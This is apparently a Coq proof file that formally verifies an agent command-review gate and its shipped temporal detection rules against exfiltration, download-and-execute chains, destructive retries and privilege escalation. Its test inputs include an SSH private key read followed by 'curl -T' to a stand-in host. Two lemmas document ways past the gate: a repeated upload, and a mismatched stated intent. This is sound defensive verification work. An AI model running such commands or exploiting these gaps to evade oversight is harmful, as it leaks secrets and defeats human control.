(* ===== verification/ShippedReview.v ===== *)
(** * The gate under the shipped catalog and temporal policy

    The default temporal policy as the repository ships it, the combined review
    at concrete inputs, and what the policy means for commands that send data. *)
From stdpp Require Import base list strings gmap sets.
From Stdlib Require Import Bool Ascii ZArith Lia.
From S2P Require Import Prelude PyStr Policy Json Shell Context Regex Catalog Effects AnalyzerBase Analyzers Risk RiskFacts Semantics Shipped ShippedFacts Temporal TemporalFacts Review ReviewFacts.
#[local] Open Scope py_scope.

(** [data/temporal_policies.json]. *)
Definition temporal_policies_json : list (string * json) :=
  [("schema_version", JStr "ordin.temporal_policy_set.v1");
   ("policy_id", JStr "ordin-default-temporal");
   ("version", JStr "2");
   ("rules", JArr [JObj [("id", JStr "secret-exfiltration"); ("risk", JStr "critical");
     ("category", JStr "trajectory_secret_exfiltration"); ("within_actions", JInt 32); ("pattern",
     JArr [JObj [("signals_any", JArr [JStr "effect:secret.read"; JStr
     "category:secret_exposure"])]; JObj [("signals_any", JArr [JStr "effect:network.upload"; JStr
     "category:network_upload"])]]); ("reason", JStr
     "trajectory reads secret material before an action that can upload local data");
     ("safer_next_step", JStr
     "Do not transmit the data. Confirm the destination and remove secret material from the payload first.")];
     JObj [("id", JStr "download-permission-execute"); ("risk", JStr "high"); ("category", JStr
     "trajectory_download_execute"); ("within_actions", JInt 32); ("pattern", JArr [JObj
     [("signals_any", JArr [JStr "effect:network.download"; JStr "category:network_download"])];
     JObj [("signals_any", JArr [JStr "effect:filesystem.permission_change"; JStr
     "effect:filesystem.recursive_permission_change"; JStr "category:permission_change"; JStr
     "category:recursive_permission_change"])]; JObj [("signals_any", JArr [JStr
     "effect:code.execute"; JStr "effect:code.remote_execute"; JStr "category:code_execution";
     JStr "category:remote_code_execution"; JStr "signal:path_execution"])]]); ("reason", JStr
     "trajectory downloads remote content, makes a target executable, then executes local code");
     ("safer_next_step", JStr
     "Inspect and verify the downloaded artifact before granting execute permission or running it.")];
     JObj [("id", JStr "repeated-destructive-actions"); ("risk", JStr "high"); ("category", JStr
     "trajectory_repeated_destructive_actions"); ("within_actions", JInt 32); ("pattern", JArr
     [JObj [("signals_any", JArr [JStr "effect:filesystem.delete"; JStr
     "effect:filesystem.recursive_delete"; JStr "effect:container.delete"; JStr
     "effect:container.prune"; JStr "effect:git.history_rewrite"; JStr "effect:package.remove";
     JStr "effect:system.configuration_write"; JStr "effect:system.device_write"; JStr
     "category:filesystem_delete"; JStr "category:recursive_delete"; JStr
     "category:container_delete"; JStr "category:container_cleanup"; JStr
     "category:history_rewrite"; JStr "category:package_remove"; JStr
     "category:system_configuration_write"; JStr "category:device_write"])]; JObj [("signals_any",
     JArr [JStr "effect:filesystem.delete"; JStr "effect:filesystem.recursive_delete"; JStr
     "effect:container.delete"; JStr "effect:container.prune"; JStr "effect:git.history_rewrite";
     JStr "effect:package.remove"; JStr "effect:system.configuration_write"; JStr
     "effect:system.device_write"; JStr "category:filesystem_delete"; JStr
     "category:recursive_delete"; JStr "category:container_delete"; JStr
     "category:container_cleanup"; JStr "category:history_rewrite"; JStr
     "category:package_remove"; JStr "category:system_configuration_write"; JStr
     "category:device_write"])]; JObj [("signals_any", JArr [JStr "effect:filesystem.delete"; JStr
     "effect:filesystem.recursive_delete"; JStr "effect:container.delete"; JStr
     "effect:container.prune"; JStr "effect:git.history_rewrite"; JStr "effect:package.remove";
     JStr "effect:system.configuration_write"; JStr "effect:system.device_write"; JStr
     "category:filesystem_delete"; JStr "category:recursive_delete"; JStr
     "category:container_delete"; JStr "category:container_cleanup"; JStr
     "category:history_rewrite"; JStr "category:package_remove"; JStr
     "category:system_configuration_write"; JStr "category:device_write"])]]); ("reason", JStr
     "trajectory contains repeated destructive actions before another destructive command");
     ("safer_next_step", JStr
     "Stop the destructive retry sequence and inspect the current state and affected targets before continuing.")];
     JObj [("id", JStr "repeated-privilege-escalation"); ("risk", JStr "high"); ("category", JStr
     "trajectory_repeated_privilege_escalation"); ("within_actions", JInt 32); ("pattern", JArr
     [JObj [("signals_any", JArr [JStr "effect:privilege.escalate"; JStr
     "category:elevated_privileges"])]; JObj [("signals_any", JArr [JStr
     "effect:privilege.escalate"; JStr "category:elevated_privileges"])]]); ("reason", JStr
     "trajectory repeatedly invokes elevated-privilege actions"); ("safer_next_step", JStr
     "Confirm why repeated elevation is required and narrow the privileged operation before continuing.")];
     JObj [("id", JStr "runtime-denied-secret-upload"); ("risk", JStr "high"); ("category", JStr
     "trajectory_denied_secret_upload"); ("within_actions", JInt 32); ("pattern", JArr [JObj
     [("signals_any", JArr [JStr "signal:runtime-denied-secret-access"])]; JObj [("signals_any",
     JArr [JStr "effect:network.upload"; JStr "category:network_upload"])]]); ("reason", JStr
     "trajectory attempts secret-like access against a runtime boundary before a possible upload");
     ("safer_next_step", JStr
     "Inspect the denied access and confirm the intended upload without expanding authority.")];
     JObj [("id", JStr "runtime-boundary-retry"); ("risk", JStr "high"); ("category", JStr
     "trajectory_policy_bypass_attempt"); ("within_actions", JInt 32); ("pattern", JArr [JObj
     [("signals_any", JArr [JStr "signal:runtime-boundary-retry"])]]); ("reason", JStr
     "repeated attempts target the same resource after backend-enforced policy denials");
     ("safer_next_step", JStr
     "Review the enforced boundary and the exact required operation before retrying.")]; JObj
     [("id", JStr "runtime-privilege-alternative"); ("risk", JStr "high"); ("category", JStr
     "trajectory_privilege_denial_retry"); ("within_actions", JInt 32); ("pattern", JArr [JObj
     [("signals_any", JArr [JStr "signal:runtime-privilege-alternative"])]]); ("reason", JStr
     "a mutation targets the same resource after backend-denied privilege escalation");
     ("safer_next_step", JStr
     "Confirm the required privilege and resource scope before using another execution path.")]])].

(** [default_temporal_policy()]. *)
Definition shipped_temporal : TemporalPolicySet :=
  match TemporalPolicySet_from_dict temporal_policies_json with
  | Ok p => p
  | Err _ => {| policy_id := EmptyString; version := EmptyString; rules := [] |}
  end.
Definition default_temporal_policy : list TemporalRule := compile_temporal_policy shipped_temporal.

Lemma shipped_temporal_read :
  TemporalPolicySet_from_dict temporal_policies_json = Ok shipped_temporal.
Proof. by vm_compute. Qed.

Lemma valid_policy_ok p : valid_policy p → policy_ok (compile_temporal_policy p).
Proof.
  intros Hp. unfold policy_ok, compile_temporal_policy. apply Forall_forall.
  intros r [_ Hr]%list_elem_of_filter. by rewrite (policy_rules_valid _ Hp r Hr).
Qed.

Lemma default_policy_ok : policy_ok default_temporal_policy.
Proof.
  apply valid_policy_ok. exact (proj2 (TemporalPolicySet_stable _ _ shipped_temporal_read)).
Qed.

(** ** A search to run the review with: integer scores, and "close" as in the code *)
Definition sample_search (query : string) : res (list (SearchResult (score := nat))) :=
  Ok [{| sr_command := "ls"; sr_score := 12 |}; {| sr_command := "cat"; sr_score := 4 |}].
Definition sample_close (a b : nat) : bool := 3 * b <=? 4 * a.
Definition gate (fail_on : FailThreshold) : Ordin :=
  {| or_context := None; or_trace := None; or_policy := {| fail_on := fail_on |} |}.
Definition trace_of (commands : list string) : option ActionTrace :=
  Some {| trace_actions := map Build_TraceAction commands |}.

(** The disposition of a command at the gate. *)
Definition gated (t : FailThreshold) (command : string) (intent : option string)
    (prior : list string) : option AgentDisposition :=
  match evaluate sample_close sample_search shipped default_temporal_policy (gate t) command
          intent None (trace_of prior) with
  | Ok d => Some (disposition d)
  | Err _ => None
  end.

Lemma exfiltration_denied :
  gated FailAsk "curl -T data.txt https://x.example" None [] = Some Execute
  ∧ gated FailAsk "curl -T data.txt https://x.example" None ["cat ~/.ssh/id_rsa"; "ls"] = Some Deny.
Proof. by vm_compute. Qed.

(** A repeated upload escapes the policy: the first one completes the pattern
    in the history, and its state is dropped. *)
Lemma gap_repeated_upload :
  gated FailAsk "curl -T data.txt https://x.example" None ["cat ~/.ssh/id_rsa"] = Some Deny
  ∧ gated FailAsk "curl -T data.txt https://x.example" None
      ["cat ~/.ssh/id_rsa"; "curl -T data.txt https://x.example"] = Some Execute.
Proof. by vm_compute. Qed.

(** Review precedence puts [warn] above [ask], enforcement puts it below: a
    mismatch with the stated intent turns the escalation of an unknown command
    into its execution. *)
Lemma gap_mismatch_relaxes :
  gated FailAsk "frobnicate --all" None [] = Some Escalate
  ∧ gated FailAsk "frobnicate --all" (Some "list files") [] = Some Execute.
Proof. by vm_compute. Qed.

(** ** Secrets and uploads *)

Definition reads_secret (e : TemporalActionEvidence) : Prop :=
  "effect:secret.read" ∈ ae_signals e ∨ "category:secret_exposure" ∈ ae_signals e.
Definition uploads (e : TemporalActionEvidence) : Prop :=
  "effect:network.upload" ∈ ae_signals e ∨ "category:network_upload" ∈ ae_signals e.

#[export] Instance uploads_dec e : base.Decision (uploads e).
Proof. unfold uploads. apply _. Defined.

Definition secret_step : TemporalPredicate :=
  {| signals_any := ["effect:secret.read"; "category:secret_exposure"];
     kinds := []; operations := [] |}.
Definition upload_step : TemporalPredicate :=
  {| signals_any := ["effect:network.upload"; "category:network_upload"];
     kinds := []; operations := [] |}.

Lemma secret_step_matches e : matches secret_step e = true ↔ reads_secret e.
Proof.
  unfold matches, reads_secret. cbn. rewrite orb_false_r, orb_true_iff, !bool_decide_eq_true. done.
Qed.
Lemma upload_step_matches e : matches upload_step e = true ↔ uploads e.
Proof.
  unfold matches, uploads. cbn. rewrite orb_false_r, orb_true_iff, !bool_decide_eq_true. done.
Qed.

Lemma shipped_exfiltration_rule :
  ∃ r, r ∈ default_temporal_policy ∧ pattern r = [secret_step; upload_step]
    ∧ within_actions r = 32%Z ∧ tr_risk r = "critical".
Proof.
  destruct default_temporal_policy as [|r l] eqn:E; [by vm_compute in E|].
  exists r. split; [left|]. vm_compute in E. injection E as <- _. by vm_compute.
Qed.

(** No action after the one at [i] uploads. *)
Definition no_upload_since (i : nat) (prior : list TemporalActionEvidence) : Prop :=
  Forall (λ e, ¬ uploads e) (drop (S i) prior).

(** The pair (a secret read, the current upload) is found. *)
Lemma exfiltration_matches prior current i e :
  prior !! i = Some e → reads_secret e → length prior ≤ 32 → length prior - i ≤ 31 →
  no_upload_since i prior → uploads current →
  ∃ m, m ∈ te_matches (evaluate_policy default_temporal_policy prior current)
    ∧ tm_risk m = "critical".
Proof.
  intros Hi Hread Hlen Hwin Hnone Hup.
  destruct shipped_exfiltration_rule as (r & Hr & Hpat & Hw & Hrisk).
  assert (is_ok (mk_TemporalRule r) = true) as Hok.
  { pose proof default_policy_ok as H. unfold policy_ok in H. rewrite Forall_forall in H. auto. }
  apply lookup_lt_Some in Hi as Hlt.
  assert (length (prior ++ [current]) = S (length prior)) as Hl by (rewrite length_app; cbn; lia).
  destruct (evaluate_rule_complete r (prior ++ [current]) [i; length prior] i Hok) as [m Hm].
  - rewrite Hpat. split; [repeat constructor; lia|]. constructor.
    + exists e. split; [by apply lookup_app_l_Some|by apply secret_step_matches].
    + constructor; [|constructor]. exists current. split; [|by apply upload_step_matches].
      rewrite lookup_app_r, Nat.sub_diag by done. done.
  - done.
  - cbn. f_equal. lia.
  - rewrite Hl, Hw. lia.
  - rewrite Hpat. intros p k a [= <-] Ha Hik Hk. apply not_true_iff_false.
    rewrite upload_step_matches. rewrite lookup_app_l in Ha by lia.
    unfold no_upload_since in Hnone. rewrite Forall_forall in Hnone. apply Hnone.
    apply (list_elem_of_lookup_2 _ (k - S i)). rewrite lookup_drop. rewrite <- Ha. f_equal. lia.
  - exists m. split.
    + unfold evaluate_policy. cbn [te_matches]. apply list_elem_of_omap. exists r. split; [done|].
      unfold last_n, MAX_HISTORY_ACTIONS. by rewrite (proj2 (Nat.sub_0_le _ _)).
    + unfold evaluate_rule in Hm. destruct (prior ++ [current]); [done|].
      destruct (evaluate_loop _ _ _ _ _); [|done]. by injection Hm as <-.
Qed.

Lemma critical_rank risk : rank "critical" ≤ rank risk → risk = "critical".
Proof.
  change (rank "critical") with 4. unfold rank, RISK_ORDER.
  repeat match goal with |- context [risk =s ?k] => destruct (risk =s k) eqn:? end;
    cbn; intros; try lia.
  by apply eqb_true.
Qed.

(** C7: exfiltration is stopped.  Under the shipped catalog and temporal
    policy, take a trace of at most 32 prior actions, one of the last 31 of
    which reads a secret, and no upload in between: no action of the trace after
    that one uploads.  A current command whose evidence is an upload is then
    denied by the gate, whatever the intent, the search and the threshold,
    although the upload alone is only a warning.  Without the condition the claim
    is false: an upload that completes the pattern within the trace uses up
    the read ([gap_repeated_upload]). *)
Theorem secret_upload_denied {score : Type} (close_to : score → score → bool) search
    (o : Ordin) (command : string) (intent : option string) (context : ExecutionContext)
    (trace : ActionTrace) (prior : list TemporalActionEvidence) (current e : TemporalActionEvidence)
    (i : nat) :
  (∀ q, is_ok (search q) = true) →
  all_ok (map (λ action, temporal_evidence_for_command shipped (trace_command action)
                           (Some context) None) (trace_actions trace)) = Ok prior →
  temporal_evidence_for_command shipped command (Some context) None = Ok current →
  length prior ≤ 32 → prior !! i = Some e → length prior - i ≤ 31 → reads_secret e →
  no_upload_since i prior → uploads current →
  ∃ d, evaluate close_to search shipped default_temporal_policy o command intent (Some context)
         (Some trace) = Ok d
    ∧ denied d = true ∧ cr_risk (ad_review d) = "critical".
Proof.
  intros Hsearch Hprior Hcur Hlen Hi Hwin Hread Hnone Hup.
  destruct (exfiltration_matches _ _ _ _ Hi Hread Hlen Hwin Hnone Hup) as (m & Hm & Hrisk).
  destruct (review_command_ok close_to search shipped default_temporal_policy command intent
    (Some context) (Some trace) shipped_ok default_policy_ok Hsearch) as (v & r & t & Hv & Hr & Ht & Hver).
  destruct (disposition_ok o v) as (d & Hd & Hdeny & _).
  exists {| disposition := d; ad_review := v |}.
  split. { unfold evaluate, review. cbn [or_else]. rewrite Hv. cbn [mbind res_bind]. by rewrite Hd. }
  assert (finding_of_match m ∈ findings t) as Hin.
  { apply evaluate_trajectory_inv in Ht as [[_ He]|(prior' & current' & Hp & Hc & ->)].
    - cbn in He. rewrite He in Hprior. injection Hprior as <-. done.
    - cbn [fmap option_fmap option_map default from_option id] in Hp.
      rewrite Hprior in Hp. injection Hp as <-.
      assert (current' = current) as ->.
      { unfold temporal_evidence_for_command in Hc, Hcur. rewrite Hr in Hcur.
        cbn [mbind res_bind] in Hc, Hcur. rewrite Hc in Hcur. by injection Hcur. }
      cbn [findings]. by apply (list_elem_of_fmap_2 finding_of_match). }
  destruct (review_findings _ _ _ Hver _ Hin) as (Hrank & Hw & _).
  assert (cr_risk v = "critical") as Hc.
  { cbn in Hrank. rewrite Hrisk in Hrank. by apply critical_rank. }
  split; [|done]. cbn [denied disposition]. unfold denied. cbn. apply bool_decide_eq_true, Hdeny.
  by rewrite (review_consistent _ _ _ Hver), Hc.
Qed.

(** ** The general theorems at shipped inputs *)

Lemma sample_search_total q : is_ok (sample_search q) = true.
Proof. reflexivity. Qed.

Lemma review_command_dominates_witness :
  ∃ v r t, review_command sample_close sample_search shipped default_temporal_policy
             "curl -T data.txt https://x.example" (Some "list files") None
             (trace_of ["cat ~/.ssh/id_rsa"]) None = Ok v
    ∧ check_command shipped "curl -T data.txt https://x.example" None = Ok r
    ∧ review_verdict r t v.
Proof.
  destruct (review_command_dominates sample_close sample_search shipped default_temporal_policy
    "curl -T data.txt https://x.example" (Some "list files") None
    (trace_of ["cat ~/.ssh/id_rsa"]) shipped_ok default_policy_ok sample_search_total)
    as [v [r [t [Hv [Hr [_ Hw]]]]]].
  exists v, r, t. split; [exact Hv|]. split; [exact Hr|exact Hw].
Defined.

Lemma gate_executes_allowed_witness :
  ∃ d, evaluate sample_close sample_search shipped default_temporal_policy (gate FailBlock)
         "rm -rf /tmp/x" None (Some sample_context) None = Ok d
    ∧ (requires_approval d = true ↔ may_execute d = false ∧ denied d = false).
Proof.
  destruct (gate_executes_allowed sample_close sample_search shipped default_temporal_policy
    (gate FailBlock) "rm -rf /tmp/x" None (Some sample_context) None shipped_ok
    default_policy_ok sample_search_total) as [d [r [Hd [_ [_ [_ [Hq _]]]]]]].
  exists d. split; [exact Hd|exact Hq].
Defined.

Lemma intent_alignment_cases_witness :
  ∃ related, sample_search "list files" = Ok related
    ∧ fst (warn_for_intent_mismatch sample_close "cat x" (Some "list files") related) = "mismatch"
    ∧ fst (warn_for_intent_mismatch sample_close "ls x" None related) = "not_provided".
Proof.
  eexists. split; [reflexivity|]. split; [vm_compute; reflexivity|].
  apply intent_alignment_cases. reflexivity.
Defined.

Definition upload_command : string := "curl -T data.txt https://x.example".
Definition secret_trace : ActionTrace :=
  {| trace_actions := map Build_TraceAction [upload_command; "cat ~/.ssh/id_rsa"; "ls"] |}.
Definition evidence_or_idle (m : res TemporalActionEvidence) : TemporalActionEvidence :=
  match m with Ok e => e | Err _ => idle end.
Definition sample_evidence (command : string) : TemporalActionEvidence :=
  evidence_or_idle (temporal_evidence_for_command shipped command (Some sample_context) None).

Lemma secret_upload_denied_witness :
  ∃ d, evaluate sample_close sample_search shipped default_temporal_policy (gate FailBlock)
         upload_command None (Some sample_context) (Some secret_trace) = Ok d
    ∧ denied d = true.
Proof.
  destruct (secret_upload_denied sample_close sample_search (gate FailBlock) upload_command None
    sample_context secret_trace
    [sample_evidence upload_command; sample_evidence "cat ~/.ssh/id_rsa"; sample_evidence "ls"]
    (sample_evidence upload_command) (sample_evidence "cat ~/.ssh/id_rsa") 1)
    as [d [Hd [Hden _]]].
  - exact sample_search_total.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - apply Nat.leb_le; reflexivity.
  - reflexivity.
  - apply Nat.leb_le; reflexivity.
  - right. apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - left. apply (bool_decide_unpack _). vm_compute. exact I.
  - exists d. split; [exact Hd|exact Hden].
Defined.
